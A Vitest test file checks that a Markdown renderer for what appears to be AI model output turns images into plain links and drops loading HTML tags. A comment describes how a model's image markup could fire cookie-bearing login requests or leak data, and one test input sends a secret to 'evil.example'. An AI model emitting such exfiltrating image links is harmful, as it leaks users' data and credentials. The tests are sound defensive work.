import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';

/** The rendered Markdown as a DOM fragment. */
function render(text: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = renderMarkdown(text);
  return div;
}

describe('renderMarkdown', () => {
  it('writes a Markdown image as a link, so the viewer’s browser loads nothing by itself', () => {
    // The model's `![x](/login?token=wrong)` must not become a request
    // carrying the viewer's cookie (a counted failed login), nor an external
    // image carry data off.
    for (const src of ['/login?token=wrong', '/api/auth/login?token=x', 'https://evil.example/?k=secret']) {
      const out = render(`look: ![x](${src})`);
      expect(out.querySelector('img')).toBeNull();
      const link = out.querySelector('a.md-image-link');
      expect(link?.getAttribute('href')).toBe(src);
      expect(link?.textContent).toBe('Image: x');
    }
  });

  it('drops raw HTML that would load something', () => {
    const out = render(
      '<img src="/login?token=wrong"> <picture><source srcset="/login?token=a"></picture> ' +
        '<video poster="/login?token=b"></video> <audio src="/login?token=c"></audio>',
    );
    for (const tag of ['img', 'picture', 'source', 'video', 'audio']) {
      expect(out.querySelector(tag)).toBeNull();
    }
    expect(out.innerHTML).not.toContain('token=');
  });

  it('keeps ordinary links, opening in a new tab', () => {
    const a = render('[docs](https://example.com/docs)').querySelector('a');
    expect(a?.getAttribute('href')).toBe('https://example.com/docs');
    expect(a?.getAttribute('target')).toBe('_blank');
  });
});
